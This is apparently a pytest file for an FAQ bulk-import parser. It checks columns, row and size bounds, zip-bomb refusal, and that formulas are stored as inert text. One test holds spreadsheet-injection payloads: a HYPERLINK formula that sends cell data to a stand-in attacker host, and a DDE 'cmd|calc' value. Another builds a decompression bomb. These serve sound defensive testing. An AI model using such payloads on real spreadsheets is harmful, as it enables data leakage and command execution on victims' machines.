"""FAQ bulk import (SPEC C-04, issue 39 item 4): the columns it takes, what it refuses
and how it names it, the ingestion's bounds (rows, decompression bombs) and cells that
stay inert text."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook
from weft_knowledge.faq_import import (
    ANSWER_MAX_CHARS,
    IMPORT_MAX_BYTES,
    FaqImportRefused,
    FaqImportTooLarge,
    parse_faq_file,
)
from weft_tools.ingestion_limits import IngestionLimits

LIMITS = IngestionLimits()


def xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_csv_rows_become_entries_with_their_phrasings_and_tag() -> None:
    content = (
        b"Question,Answer,Similar Questions,Tag\n"
        b'How do I reset my password?,"Use the link on the sign-in page.",'
        b"forgot password | lost password,account\n"
        b"What are the office hours?,9 to 5,,\n"
    )
    drafts = parse_faq_file("faq.csv", content, LIMITS)
    assert [d.question for d in drafts] == [
        "How do I reset my password?",
        "What are the office hours?",
    ]
    assert drafts[0].similar_questions == ("forgot password", "lost password")
    assert drafts[0].tag == "account" and drafts[1].similar_questions == ()


def test_xlsx_rows_become_entries() -> None:
    content = xlsx([["question", "answer"], ["Where is the parking?", "Level -2."]])
    [draft] = parse_faq_file("faq.xlsx", content, LIMITS)
    assert (draft.question, draft.answer) == ("Where is the parking?", "Level -2.")


def test_formulas_stay_inert_text() -> None:
    """A CSV cell that a spreadsheet would run as a formula is stored as the text it is;
    an XLSX formula is read as the value the workbook saved (none here: the row is then
    refused, naming the empty column, rather than stored half)."""
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    content = f'question,answer\n"{payload.replace(chr(34), chr(34) * 2)}",+cmd|calc!A0\n'
    [draft] = parse_faq_file("faq.csv", content.encode(), LIMITS)
    assert draft.question == payload and draft.answer == "+cmd|calc!A0"
    formula = xlsx([["question", "answer"], ["Sum?", "=1+1"]])
    with pytest.raises(FaqImportRefused, match="row 2: column 'answer' is empty"):
        parse_faq_file("faq.xlsx", formula, LIMITS)


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("q,a", "missing column(s) ['question', 'answer']"),
        ("question,reply", "missing column(s) ['answer']"),
        ("question,answer,owner", "unknown column(s) ['owner']"),
    ],
)
def test_wrong_columns_are_named(header: str, message: str) -> None:
    content = (
        f"{header}\nx,y\n".encode() if header.count(",") == 1 else f"{header}\nx,y,z\n".encode()
    )
    with pytest.raises(FaqImportRefused) as refused:
        parse_faq_file("faq.csv", content, LIMITS)
    assert message in str(refused.value) and "found" in str(refused.value)


def test_a_bad_row_refuses_the_file_naming_the_row() -> None:
    content = b"question,answer\nGood?,Yes\nNo answer?,\n"
    with pytest.raises(FaqImportRefused, match="row 3: column 'answer' is empty"):
        parse_faq_file("faq.csv", content, LIMITS)
    huge = "question,answer\nBig?," + "x" * (ANSWER_MAX_CHARS + 1) + "\n"
    with pytest.raises(FaqImportRefused, match="row 2: column 'answer' has 20,001 characters"):
        parse_faq_file("faq.csv", huge.encode(), LIMITS)


def test_a_cell_past_the_csv_field_limit_is_refused_not_truncated() -> None:
    content = b'question,answer\nBig?,"' + b"y" * 200_000 + b'"\n'
    with pytest.raises(FaqImportRefused, match="not a readable table"):
        parse_faq_file("faq.csv", content, LIMITS)


def test_too_many_rows_is_refused_with_the_bound() -> None:
    rows = "".join(f"q{i}?,a{i}\n" for i in range(30))
    content = ("question,answer\n" + rows).encode()
    with pytest.raises(FaqImportTooLarge, match="more than 20 rows"):
        parse_faq_file("faq.csv", content, IngestionLimits(max_rows=20))
    assert len(parse_faq_file("faq.csv", content, IngestionLimits(max_rows=30))) == 30


def test_an_xlsx_bomb_is_refused_before_it_is_inflated() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("[Content_Types].xml", "<Types/>")
        bomb.writestr("xl/worksheets/sheet1.xml", b"<row>" + b"0" * (40 * 1024 * 1024))
    with pytest.raises(FaqImportTooLarge, match="zip bomb"):
        parse_faq_file("faq.xlsx", out.getvalue(), LIMITS)


def test_other_files_and_empty_tables_are_refused() -> None:
    with pytest.raises(FaqImportRefused, match=r"use a \.csv or \.xlsx"):
        parse_faq_file("faq.pdf", b"%PDF", LIMITS)
    with pytest.raises(FaqImportRefused, match="no entries"):
        parse_faq_file("faq.csv", b"question,answer\n", LIMITS)
    with pytest.raises(FaqImportRefused, match="not a readable zip"):
        parse_faq_file("faq.xlsx", b"not a zip", LIMITS)
    with pytest.raises(FaqImportTooLarge):
        parse_faq_file("faq.csv", b"x" * (IMPORT_MAX_BYTES + 1), LIMITS)
